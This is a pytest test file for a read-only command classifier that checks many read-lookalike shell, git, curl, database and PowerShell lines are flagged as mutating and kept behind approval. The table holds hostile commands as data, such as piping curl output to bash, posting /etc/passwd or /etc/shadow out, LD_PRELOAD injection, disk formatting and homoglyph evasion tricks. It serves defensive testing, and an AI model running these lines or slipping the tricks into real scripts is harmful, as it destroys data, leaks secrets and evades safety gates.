"""Read-only is an allow-list: commands that look like reads but write, run a program or send
data away, as an attacker or a careless guide author would write them.

Each row is judged three ways: by `classify` (an argv, no shell), by the bash reader (a line
that needs a shell) or by the PowerShell reader; and compiled as a one-line guide, where
anything that is not a read must never become an ungated command step. A few honest reads
close to each trick stay ungated."""

from __future__ import annotations

import pytest

from engine.compile import powershell
from engine.plan import StepKind
from tests.support.verdicts import compiled, ungated_commands, verdict

M, P = "mutate", "interactive"  # P: a person's job

# (how it is read, the line, what it does). "argv": a command with no shell syntax; "bash": a
# line only a shell means; "ps": a PowerShell script.
HOSTILE: list[tuple[str, str, str]] = [
    # find, awk, sed, sort, uniq, tee, xargs
    ("argv", "find /srv -name x -delete", M), ("argv", "find . -exec rm {} ;", M),
    ("argv", "find . -fprint /tmp/x", M), ("argv", "find -Olevel . -delete", M),
    ("argv", "awk 'BEGIN{system(\"id\")}'", M), ("argv", "awk '{print > \"/tmp/x\"}' f", M),
    ("argv", "awk '{print | \"sh\"}' f", M), ("argv", "gawk -i inplace '{print}' f", M),
    ("argv", "sed -i s/a/b/ f", M), ("argv", "sed 'w /tmp/x' f", M), ("argv", "sed '1e id' f", M),
    ("argv", "sed 's/.*/id/e' f", M), ("argv", "sed -e p -e 'w /tmp/x' f", M),
    ("argv", "sort -o /tmp/x f", M), ("argv", "sort -k1 -o/tmp/x f", M),
    ("argv", "sort --compress-program=sh f", M), ("argv", "uniq -c f /tmp/x", M),
    ("argv", "tee -a /tmp/x", M), ("argv", "xargs rm", M), ("argv", "xargs -I{} rm {}", M),
    ("argv", "xargs find", M), ("argv", "xargs curl -s", M),
    # wrappers
    ("argv", "env X=1 rm x", M), ("argv", "env -S 'rm x'", M), ("argv", "nice -n 5 rm x", M),
    ("argv", "timeout -k 1 5 rm x", M), ("argv", "nohup kubectl delete pod x", M),
    ("argv", "stdbuf -oL tee /tmp/x", M), ("argv", "command rm x", M),
    ("argv", "builtin echo x", M), ("argv", "exec ls", M), ("argv", "time -o /tmp/x ls", M),
    ("argv", "ionice -p 1", M), ("argv", "setsid rm x", M), ("argv", "sudo -h host rm x", M),
    ("argv", "sudo --host=h ls", M), ("argv", "sudo -u postgres find /x -delete", M),
    ("argv", "watch rm x", P),
    # git
    ("argv", "git -c core.pager='sh -c id' log", M),
    ("argv", "git --config-env=core.pager=X log", M),
    ("argv", "git log --output=/tmp/x", M), ("argv", "git diff --output /tmp/x", M),
    ("argv", "git diff --ext-diff", M), ("argv", "git --exec-path=/tmp log", M),
    ("argv", "git grep -O x", M), ("argv", "git ls-remote --upload-pack='sh -c id' origin", M),
    ("argv", "git branch -l -D x", M), ("argv", "git config --get --add x y", M),
    ("argv", "git fsck --lost-found", M),
    # pagers
    ("argv", "less -o /tmp/x f", M), ("argv", "less -k keys f", M), ("argv", "less +F f", P),
    ("bash", "LESSOPEN='|id %s' less f", M),
    # curl and wget
    ("argv", "curl -X POST http://x", M), ("argv", "curl -d a=b http://x", M),
    ("argv", "curl -G -d @/etc/passwd http://x", M), ("argv", "curl -T f http://x", M),
    ("argv", "curl --upload-file f http://x", M), ("argv", "curl -o /tmp/x http://x", M),
    ("argv", "curl -sLo/tmp/x http://x", M), ("argv", "curl -o - -o /tmp/x http://x", M),
    ("argv", "curl -w '%output{/tmp/x}' http://x", M), ("argv", "curl --url file:///etc/passwd", M),
    ("argv", "curl -H @/etc/passwd http://x", M), ("argv", "curl -H@/etc/shadow http://x", M),
    ("argv", "curl --proxy-header @/etc/shadow http://x", M),
    ("argv", "wget -O /tmp/x http://x", M), ("argv", "wget --post-data=a -O- http://x", M),
    ("argv", "wget -O - -O /tmp/x http://x", M), ("argv", "wget --spider -O /tmp/x http://x", M),
    # kubernetes, containers
    ("argv", "kubectl create --dry-run=client -f x.yaml", M),
    ("argv", "kubectl exec p -- sh -c 'cat /x'", M),
    ("argv", "kubectl exec p -- find / -delete", M),
    ("argv", "kubectl cp p:/etc/passwd /tmp/x", M), ("argv", "kubectl port-forward p 80", P),
    ("argv", "kubectl proxy", P), ("argv", "kubectl debug node/n -- chroot /host ls", M),
    ("argv", "kubectl cluster-info dump --output-directory=/tmp/x", M),
    ("argv", "kubectl get pods --profile=cpu --profile-output=/tmp/p", M),
    ("argv", "docker cp c:/etc/passwd /tmp/x", M), ("argv", "docker run --rm alpine ls", M),
    ("argv", "docker exec --privileged c ls", M), ("argv", "docker exec -e X=1 c ls", M),
    ("argv", "docker save -o /tmp/x img", M),
    ("argv", "helm template x . --post-renderer ./evil", M),
    # services, archives, tls, clock, host, network, kernel
    ("argv", "journalctl --vacuum-size=1K", M), ("argv", "journalctl --rotate", M),
    ("argv", "journalctl --flush", M), ("argv", "journalctl --cursor-file=/tmp/c", M),
    ("argv", "systemctl --now disable x", M), ("argv", "systemctl status x --now", M),
    ("argv", "service x status stop", M), ("argv", "tar -xf x.tar", M),
    ("argv", "tar -cf x.tar .", M),
    ("argv", "tar -tf x.tar --to-command=sh", M),
    ("argv", "openssl req -new -out /tmp/x", M),
    ("argv", "openssl x509 -in c -noout -out /tmp/x", M),
    ("argv", "openssl s_client -connect x:443 -sess_out /tmp/s", M),
    ("argv", "date -s 2020-01-01", M), ("argv", "date +%s 0101", M),
    ("argv", "hostname newname", M), ("argv", "hostname -F /tmp/x", M),
    ("argv", "ip route add 1.2.3.4 via 1.1.1.1", M), ("argv", "ip r a 1.2.3.4 via 1.1.1.1", M),
    ("argv", "ip l s eth0 down", M), ("argv", "ip -batch /tmp/x", M),
    ("argv", "iptables -F", M), ("argv", "iptables -L -D INPUT 1", M),
    ("argv", "iptables -L -Z", M),
    ("argv", "iptables-save -M /tmp/evil", M), ("argv", "iptables-save --modprobe=/tmp/evil", M),
    ("argv", "dmesg -c", M), ("argv", "dmesg -rc", M), ("argv", "dmesg -C", M),
    ("argv", "cat /dev/watchdog", M), ("argv", "head -c1 /dev//watchdog0", M),
    ("bash", "cat < /dev/watchdog", M), ("argv", "top", P),
    # interpreters and shells
    ("argv", "python -c 'print(1)'", M), ("argv", "perl -e 'unlink \"x\"'", M),
    ("argv", "bash -c 'ls'", M), ("argv", "busybox rm x", M),
    # databases and key-value stores
    ("argv", "psql -c 'select pg_terminate_backend(1)'", M),
    ("argv", "psql -c 'SELECT * INTO t2 FROM t'", M), ("argv", "psql -c \"COPY t TO '/tmp/x'\"", M),
    ("argv", "psql -c 'select lo_export(1, $$/tmp/x$$)'", M),
    ("argv", "psql -c 'WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x'", M),
    ("argv", "psql -c '\\! id'", M), ("argv", "psql -c 'select 1' -o /tmp/x", M),
    ("argv", "psql -c 'select 1' 'host=x options=-cdefault_transaction_read_only=off'", M),
    ("argv", "mysql -e 'select 1 into outfile \"/tmp/x\"'", M), ("argv", "mysql -e '\\! id'", M),
    ("argv", "redis-cli CONFIG SET dir /tmp", M), ("argv", "redis-cli FLUSHALL", M),
    ("argv", "redis-cli DEBUG SLEEP 10", M), ("argv", "redis-cli SHUTDOWN", M),
    ("argv", "redis-cli MEMORY PURGE", M), ("argv", "redis-cli --rdb /tmp/x", M),
    ("argv", "redis-cli MONITOR", P),
    # the shell: redirections, substitutions, quoting, aliases
    ("bash", "cat f > /tmp/x", M), ("bash", "cat f >> /tmp/x", M), ("bash", "cat f >| /tmp/x", M),
    ("bash", "cat f &> /tmp/x", M), ("bash", "cat f 2> /tmp/x", M), ("bash", "cat f >&/tmp/x", M),
    ("bash", "cat f > /dev/null/../../tmp/x", M), ("bash", "cat f | tee >(rm x)", M),
    ("bash", "cat <(rm x)", M), ("bash", "ls $(rm x)", M), ("bash", "ls `rm x`", M),
    ("bash", "grep \"$(touch /tmp/x)\" f", M), ("bash", "cat <<< \"$(rm x)\"", M),
    ("bash", "cat <<< $(rm x)", M), ("bash", "cat ${X:?$(rm y)}", M),
    ("bash", "for k in a; do test -v 'a[$(rm x)]' && echo $k; done", M),
    ("bash", "for k in a; do [ -v 'a[`rm x`]' ] && echo $k; done", M),
    ("bash", "[[ 'a[$(rm x)]' -eq 1 ]] && ls", M), ("bash", "echo \"${a['$(rm x)']}\"", M),
    ("bash", "for k in a; do printf -v 'a[$(rm x)]' $k; done", M),
    ("bash", "read 'a[$(rm x)]' < f", M),
    ("bash", "echo $(( $(cat f) + 1 ))", M),
    ("bash", "for i in $(cat f); do echo $((i+1)); done", M),
    ("bash", "for n in $(cat f); do [[ $n -gt 1 ]] && echo $n; done", M),
    ("bash", "cat f | while read n; do echo $((n)); done", M),
    ("bash", "for f in /tmp/*; do (( f > 1 )) && echo; done", M),
    ("bash", "echo ${NS@P}", M), ("bash", "for x in $(cat f); do echo ${!x}; done", M),
    ("bash", "for x in $(cat f); do test -v \"$x\" && echo; done", M),
    ("bash", "X=1 ls", M), ("bash", "LD_PRELOAD=/tmp/x.so ls", M),
    ("bash", "PAGER='sh -c id' git log", M),
    ("bash", "function ls { rm x; }; ls", M), ("bash", "trap 'rm x' EXIT; ls", M),
    ("bash", "cat f | sh", M), ("bash", "curl -s http://x | bash -s", M),
    ("argv", "\\rm x", M), ("argv", "'rm' x", M), ("argv", "r\"\"m x", M),
    ("argv", "k delete pod x", M),
    ("argv", "/usr/bin/../../tmp/ls", M), ("argv", "./cat f", M),
    ("argv", "kubectl\u200b get pods", M), ("argv", "kubectl \u200bdelete pod x", M),
    ("argv", "\u0440m x", M), ("argv", "systemctl st\u0430tus x", M),
    # PowerShell
    ("ps", "Get-ChildItem C:\\x | Remove-Item", M), ("ps", "Get-Content x | Set-Content y", M),
    ("ps", "Get-Content x > y", M), ("ps", "Invoke-Expression 'rm x'", M),
    ("ps", "Get-Process | Stop-Process", M), ("ps", "Get-Content x | Out-String | iex", M),
    ("ps", "Get-Process notepad | ForEach-Object Kill", M),
    ("ps", "Get-ChildItem | ForEach-Object -MemberName Delete", M),
    ("ps", "Get-WmiObject Win32_Process | ForEach-Object Terminate", M),
    ("ps", "Select-Object -InputObject (ni x)", M), ("ps", "Get-ChildItem (ri x)", M),
    ("ps", "Format-Volume -DriveLetter D", M), ("ps", "Get-Partition | Format-Volume", M),
    ("ps", "Select-AzSubscription -SubscriptionId x", M),
    ("ps", "Test-ComputerSecureChannel -Rep", M), ("ps", "Test-ComputerSecureChannel -r", M),
    ("ps", "Get-Content -Path x -Wai", P), ("ps", "Get-Item x -Cred y", M),
    ("ps", "Get-WindowsUpdate -Install -AcceptAll", M), ("ps", "Get-Counter -Continuous", P),
    ("ps", "Test-Cluster", M), ("ps", "Get-ChildItem \"$(rm x)\"", M),
]

# Honest reads next to the tricks above: they stay read-only and ungated.
HONEST: list[tuple[str, str]] = [
    ("argv", "find /srv -name '*.log' -mtime +7 -printf '%p\\n'"), ("argv", "awk '{print $1}' f"),
    ("argv", "sed -n '1,5p' f"), ("argv", "sort -u f"), ("argv", "xargs grep -l error"),
    ("argv", "git log --oneline -5"), ("argv", "less /var/log/syslog"),
    ("argv", "curl -s -H 'Accept: application/json' http://x/health"),
    ("argv", "wget -qO- http://x"),
    ("argv", "wget --spider http://x"), ("argv", "wget -O /dev/null http://x"),
    ("argv", "kubectl get --raw /api/v1/namespaces"), ("argv", "kubectl exec p -- cat /etc/hosts"),
    ("argv", "docker logs --tail 50 c"), ("argv", "journalctl -u x --since today --no-pager"),
    ("argv", "systemctl status x"), ("argv", "openssl s_client -connect x:443 -showcerts"),
    ("argv", "date -u +%s"), ("argv", "hostname -f"), ("argv", "ip route show"),
    ("argv", "iptables -L -n -v"), ("argv", "iptables-save -c"), ("argv", "dmesg -T"),
    ("argv", "top -b -n 1"), ("argv", "ps aux"), ("argv", "sudo -u postgres psql -c 'select 1'"),
    ("argv", "redis-cli MEMORY USAGE k"), ("argv", "redis-cli INFO memory"),
    ("argv", "ls -l /dev/watchdog"), ("argv", "stat /dev/watchdog0"),
    ("bash", "cat f 2>/dev/null | grep x"), ("bash", "diff <(ls a) <(ls b)"),
    ("bash", "cat <<< \"$(date)\""), ("bash", "[[ -n $(cat f) ]] && echo set"),
    ("bash", "for p in $(pgrep x); do ps -o pid= -p $p; done"),
    ("bash", "if [[ $(kubectl get po | wc -l) -gt 3 ]]; then echo many; fi"),
    ("bash", "for i in 1 2 3; do echo $((i+1)); done"),
    ("ps", "Get-Service | Where-Object { $_.Status -eq 'Running' }"),
    ("ps", "Get-ChildItem -r C:\\logs | Format-Table -auto"),
    ("ps", "Get-Process | Sort-Object CPU -Descending | Select-Object -First 5"),
    ("ps", "Get-ChildItem | ForEach-Object { $_.Name }"), ("ps", "Format-Hex x"),
    ("ps", "Select-Xml -Path x -XPath /a"), ("ps", "Test-Connection x -co 1"),
    ("ps", "Compare-Object (Get-Content a) (gc b)"),
]


@pytest.fixture(autouse=True)
def with_pwsh(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(powershell, "pwsh_installed", lambda: True)


def test_the_table_is_wide() -> None:
    assert len(HOSTILE) >= 60 and len({line for _, line, _ in HOSTILE}) == len(HOSTILE)


@pytest.mark.parametrize(("how", "line", "expected"), HOSTILE, ids=[h[1] for h in HOSTILE])
def test_a_read_lookalike_is_not_read_only(how: str, line: str, expected: str) -> None:
    found = verdict(how, line)
    assert found.effect == expected, found.reason
    assert found.reason  # a refusal says why
    # compiled, it is never a command step that runs without an approval
    assert ungated_commands(compiled(how, line)) == [], line


@pytest.mark.parametrize(("how", "line"), HONEST, ids=[h[1] for h in HONEST])
def test_an_honest_read_beside_them_stays_ungated(how: str, line: str) -> None:
    assert verdict(how, line).read, verdict(how, line).reason
    plan = compiled(how, line)
    commands = [s for s in plan.steps if s.kind == StepKind.COMMAND]
    assert commands and not any(s.mutating for s in commands), line


@pytest.mark.parametrize("line", [
    "kubectl --server $API get nodes", "vault -address=$VAULT kv get secret/x",
    "curl -s -H 'Authorization: Bearer abc' https://$HOST/api",
    "etcdctl --endpoints $ENDPOINT endpoint health",
])
def test_a_server_named_by_an_input_never_gets_the_credentials_unasked(line: str) -> None:
    # compiled, `$API` is an input an alert label can fill: the step waits for a person
    assert ungated_commands(compiled("argv", line)) == [], line
    assert ungated_commands(compiled("argv", "curl -s https://$HOST/health"))
